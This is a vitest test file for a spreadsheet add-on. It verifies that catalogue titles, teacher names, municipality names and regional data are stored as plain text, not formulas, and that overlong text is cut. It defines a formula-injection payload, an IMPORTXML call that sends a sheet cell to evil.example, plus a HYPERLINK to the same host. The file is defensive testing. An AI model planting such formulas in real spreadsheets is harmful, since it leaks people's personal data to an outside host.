// A person's or the region's text never becomes a formula in the methodist's sheets (setValues reads «=…» as one),
// and a text longer than a cell holds is cut rather than failing the write.
import { describe, expect, test } from "vitest";
import { CELL_TEXT_LIMIT } from "../../shared/text/plainText.ts";
import { sampleSheets } from "../helpers/sampleBook.ts";
import { builtAddon, loadAddon, type AddonEnv } from "./addon.ts";
import { consolidatedBody, MONTH, REGION_KEY, REGION_URL, regionReport } from "./regionFixture.ts";
import { SETTINGS_FORM } from "./settings.ts";
import { column } from "./sheetView.ts";

const ATTACK = '=IMPORTXML("https://evil.example/?"&Педагоги!B2; "//a")';

/** Every formula in every sheet of the file, as «sheet!row:column = formula». */
const formulas = (env: AddonEnv) =>
  env.ss.sheets.flatMap((sheet) => [...sheet.grid.formulas].map(([at, f]) => `${sheet.name}!${at} = ${f}`));

describe("texts stay texts", () => {
  test("a catalogue title, a hand-edited route, the municipality's name: every writer keeps them as text", async () => {
    const sheets = sampleSheets();
    sheets.push({
      name: "Каталог",
      rows: [
        ["Код", "Название", "Тип", "Группы компетенций", "Часы", "Длительность, недель"],
        ["001", ATTACK, "мероприятие", "цифровые, предметные", 6, 2],
        ["002", "+7 дней практики", "ДПП", "цифровые, предметные", 36, 4],
      ],
    });
    const env = loadAddon(await builtAddon(), sheets);
    env.call("saveSettings", { ...SETTINGS_FORM, municipalityName: '=HYPERLINK("https://evil.example")' });
    env.call("runAction", "prepare");
    env.call("runAction", "routes");
    const iom = env.ss.sheet("ИОМ");
    expect(column(iom, "Мероприятие")).toEqual(expect.arrayContaining([ATTACK, "+7 дней практики"]));
    expect(formulas(env)).toEqual([]);
    iom.grid.setValue(3, 8, "-снят по просьбе педагога"); // a methodist's note, kept on regeneration
    env.call("runAction", "routes", { regenerate: true });
    env.call("runAction", "kpis");
    env.call("runAction", "check");

    expect(formulas(env)).toEqual([]);
    expect(column(iom, "Мероприятие")).toEqual(
      expect.arrayContaining(["+7 дней практики", "-снят по просьбе педагога"]),
    );
    expect(column(iom, "Код")).toEqual(expect.arrayContaining(["001", "002"]));
    expect(env.ss.sheet("Настройки").dump()).toContainEqual([
      "Муниципалитет",
      '=HYPERLINK("https://evil.example")',
    ]);
    expect(env.ss.sheet("Настройки").dump()).toContainEqual(["Дата отчёта", "2026-11-30"]);
  });

  test("a respondent's text quoted in «Проверка» and a form answer stay text", async () => {
    const sheets = sampleSheets();
    sheets[0]!.rows[1]![2] = ATTACK; // «ФИО»
    const env = loadAddon(await builtAddon(), sheets);
    env.call("runAction", "check");
    expect(formulas(env)).toEqual([]);
    expect(column(env.ss.sheet("Реестр ИОМ"), "Проверка")[0]).toContain("«=IMPORTXML(");
  });

  test("names in the region's snapshot stay text; a name longer than a cell holds is cut with «…»", async () => {
    const report = regionReport(3);
    const body = JSON.parse(consolidatedBody(report)) as { report: { municipalities: { name: string }[] } };
    body.report.municipalities[0]!.name = ATTACK;
    body.report.municipalities[1]!.name = "Ъ".repeat(CELL_TEXT_LIMIT + 10);
    const env = loadAddon(await builtAddon());
    env.call("saveRegionSettings", { url: REGION_URL, key: REGION_KEY });
    env.fetch = () => ({ code: 200, body: JSON.stringify(body) });
    env.call("importRegion", MONTH);
    const values = env.ss.sheet(`Свод ${MONTH}`).dump().flat();
    expect(formulas(env)).toEqual([]);
    expect(values).toContain(ATTACK);
    const long = values.find((v) => typeof v === "string" && v.startsWith("ЪЪЪ")) as string;
    expect(long.length).toBeLessThanOrEqual(CELL_TEXT_LIMIT);
    expect(long.endsWith("…")).toBe(true);
  });
});
